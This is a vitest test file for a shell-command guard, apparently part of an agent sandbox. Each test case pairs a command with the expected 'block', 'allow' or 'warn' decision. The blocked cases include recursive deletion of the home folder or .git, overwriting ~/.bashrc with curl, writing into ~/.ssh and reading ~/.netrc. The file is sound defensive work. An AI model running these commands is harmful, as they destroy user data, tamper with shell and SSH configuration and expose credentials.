import { expect, it } from "vitest";
import { judgeCommand } from "./judge-command.ts";

const place = {
  workTree: "/home/ada/project",
  home: "/home/ada",
  tempFolder: "/tmp",
  cwd: "/home/ada/project",
  store: "/home/ada/.local/state/ralph",
  allow: [],
};

function check(command: string, expected: string): void {
  expect(judgeCommand(command, place).decision).toBe(expected);
}

it.each([
  ["chmod -R 755 ~", "block"],
  ["chown -R ada /usr", "block"],
  ["chmod -R u+w ~/*", "block"],
  ["chmod -R u+rw dist", "allow"],
  ["chmod u+x ~/x", "allow"],
  ["rsync -a --remove-source-files ~/ /tmp/x/", "block"],
  ["rsync -a --remove-source-files out/ dist/", "allow"],
  ["zip -rm x.zip ~/Documents", "block"],
  ["zip -r x.zip dist", "allow"],
  ["tar --remove-files -cf x.tar ~/Documents", "block"],
  ["rimraf ~", "block"],
  ["rimraf dist", "allow"],
  ["uniq x ~/.bashrc", "block"],
  ["ssh-keygen -f ~/.ssh/id_x -N x", "block"],
  ["ssh-keygen -lf ~/.ssh/id_x.pub", "allow"],
  ["rm -rf .git", "block"],
  ["rm -rf .git/index.lock", "block"],
  ["rm .git/index.lock", "allow"],
  ["rm -f *", "block"],
  ["rm -f *.log", "allow"],
  ["rm /usr/bin/x", "block"],
  ["rm ~/x", "warn"],
  ["cp a ~/.ssh/config", "block"],
  ["cp -t ~/.ssh a b", "block"],
  ["cp ~/.ssh/id_rsa.pub a", "allow"],
  ["sed s/a/b/ ~/.bashrc", "allow"],
  ["sed -i s/a/b/ ~/.bashrc", "block"],
  ["curl -o ~/.bashrc http://x.example", "block"],
  ["rsync -a --delete a/ .", "block"],
  ["grep -f ~/.netrc x", "block"],
  ["mkdir .ralph", "allow"],
  ["mv .ralph x", "block"],
])("%s: %s, for it judges what is removed, written and read (R-120, R-123)", (command, expected) => {
  check(command, expected);
});
